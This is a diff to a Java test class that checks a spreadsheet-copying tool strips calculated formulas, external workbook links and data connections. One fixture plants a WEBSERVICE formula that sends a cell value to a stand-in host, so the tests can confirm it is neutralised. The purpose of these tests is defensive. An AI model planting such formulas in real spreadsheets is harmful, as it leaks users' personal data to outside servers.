@@ -13,11 +13,14 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.FileSystem;
+import java.nio.file.FileSystems;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.FillPatternType;
 import org.apache.poi.ss.util.CellRangeAddress;
 import org.apache.poi.xssf.usermodel.XSSFCellStyle;
@@ -109,7 +112,7 @@ class AnnotatedCopyTest {
             sheet.setColumnWidth(1, 9000);
             sheet.setAutoFilter(new CellRangeAddress(1, 3, 0, 3));
             sheet.protectSheet("x");
-            book.createSheet("照片").createRow(0).createCell(0).setCellFormula("1+1");
+            book.createSheet("照片").createRow(0).createCell(0).setCellValue("祠堂");
             book.write(out);
         }
 
@@ -119,8 +122,8 @@ class AnnotatedCopyTest {
         assertThat(sheet.getMergedRegions()).hasSize(1);
         assertThat(sheet.getColumnWidth(1)).isEqualTo(9000);
         assertThat(sheet.getProtect()).isTrue();
-        assertThat(sheet.getWorkbook().getSheet("照片").getRow(0).getCell(0).getCellFormula())
-                .isEqualTo("1+1");
+        assertThat(sheet.getWorkbook().getSheet("照片").getRow(0).getCell(0).getStringCellValue())
+                .isEqualTo("祠堂");
         XSSFCellStyle style = sheet.getRow(3).getCell(2).getCellStyle();
         assertThat(style.getFont().getBold()).isTrue();
         assertThat(style.getDataFormatString()).isEqualTo("@");
@@ -129,6 +132,91 @@ class AnnotatedCopyTest {
                 .as("a row with a note is shown")
                 .isFalse();
         assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A2:F4");
+    }
+
+    @Test
+    void R_SEC_3_nothing_is_calculated_in_the_copy_that_another_officer_opens_and_values_stay() throws IOException {
+        Path file = folder.resolve("算.xlsx");
+        try (XSSFWorkbook book = new XSSFWorkbook();
+                OutputStream out = Files.newOutputStream(file)) {
+            XSSFSheet sheet = book.createSheet("名单");
+            for (int r = 0; r < 3; r++) {
+                sheet.createRow(r);
+                for (int c = 0; c < 4; c++) {
+                    Object value = List.of(HEADER, CHEN, BAD).get(r)[c];
+                    sheet.getRow(r).createCell(c).setCellValue(value == null ? null : value.toString());
+                }
+            }
+            sheet.getRow(1).getCell(0).setCellFormula("\"陈\"&\"大河\"");
+            XSSFSheet other = book.createSheet("另一张");
+            other.createRow(0).createCell(0).setCellFormula("WEBSERVICE(\"http://x.example/?\"&名单!B2)");
+            other.createRow(1).createCell(0).setCellFormula("2*3");
+            book.getCreationHelper()
+                    .createFormulaEvaluator()
+                    .evaluateFormulaCell(sheet.getRow(1).getCell(0));
+            book.getCreationHelper()
+                    .createFormulaEvaluator()
+                    .evaluateFormulaCell(other.getRow(1).getCell(0));
+            book.write(out);
+        }
+
+        XSSFSheet sheet = open(copy(file));
+
+        assertThat(text(sheet, 1, 0)).isEqualTo("陈大河");
+        assertThat(sheet.getRow(1).getCell(0).getCellType()).isEqualTo(CellType.STRING);
+        XSSFSheet other = sheet.getWorkbook().getSheet("另一张");
+        assertThat(other.getRow(0).getCell(0).getCellType()).isNotEqualTo(CellType.FORMULA);
+        assertThat(other.getRow(1).getCell(0).getNumericCellValue()).isEqualTo(6);
+        assertThat(sheet.getWorkbook().getCalculationChain()).isNull();
+    }
+
+    @Test
+    void R_SEC_3_links_to_other_workbooks_and_connections_are_left_out_with_all_that_points_to_them() throws Exception {
+        Path file = workbook(folder, HEADER, CHEN, BAD);
+        try (FileSystem zip = FileSystems.newFileSystem(file)) {
+            Files.createDirectories(zip.getPath("xl/externalLinks/_rels"));
+            Files.writeString(zip.getPath("xl/externalLinks/externalLink1.xml"), "<externalLink/>");
+            Files.writeString(zip.getPath("xl/externalLinks/_rels/externalLink1.xml.rels"), "<Relationships/>");
+            Files.writeString(zip.getPath("xl/connections.xml"), "<connections/>");
+            replace(
+                    zip.getPath("xl/_rels/workbook.xml.rels"),
+                    "</Relationships>",
+                    "<Relationship Id=\"rX1\" Type=\"http://x.example/relationships/externalLink\""
+                            + " Target=\"externalLinks/externalLink1.xml\"/><Relationship Id=\"rX2\""
+                            + " Type=\"http://x.example/relationships/connections\" Target=\"connections.xml\"/></Relationships>");
+            replace(
+                    zip.getPath("xl/workbook.xml"),
+                    "</sheets>",
+                    "</sheets><externalReferences><externalReference/></externalReferences>"
+                            + "<definedNames><definedName name=\"y\">[1]Tab!A1</definedName></definedNames>");
+            replace(
+                    zip.getPath("[Content_Types].xml"),
+                    "</Types>",
+                    "<Override ContentType=\"application/xml\" PartName=\"/xl/connections.xml\"/></Types>");
+        }
+
+        Path copy = copy(file);
+
+        assertThat(text(open(copy), 2, 4)).isEqualTo("证件号码、金额");
+        try (FileSystem zip = FileSystems.newFileSystem(copy)) {
+            assertThat(zip.getPath("xl/connections.xml")).doesNotExist();
+            assertThat(zip.getPath("xl/externalLinks/externalLink1.xml")).doesNotExist();
+            assertThat(zip.getPath("xl/externalLinks/_rels/externalLink1.xml.rels"))
+                    .doesNotExist();
+            assertThat(Files.readString(zip.getPath("xl/_rels/workbook.xml.rels")))
+                    .contains("worksheet")
+                    .doesNotContain("externalLink", "connections");
+            assertThat(Files.readString(zip.getPath("xl/workbook.xml")))
+                    .contains("sheetId")
+                    .doesNotContain("externalReference", "[1]Tab");
+            assertThat(Files.readString(zip.getPath("[Content_Types].xml"))).doesNotContain("connections");
+        }
+    }
+
+    private static void replace(Path part, String old, String now) throws IOException {
+        String text = Files.readString(part);
+        assertThat(text).contains(old);
+        Files.writeString(part, text.replace(old, now));
     }
 
     @Test
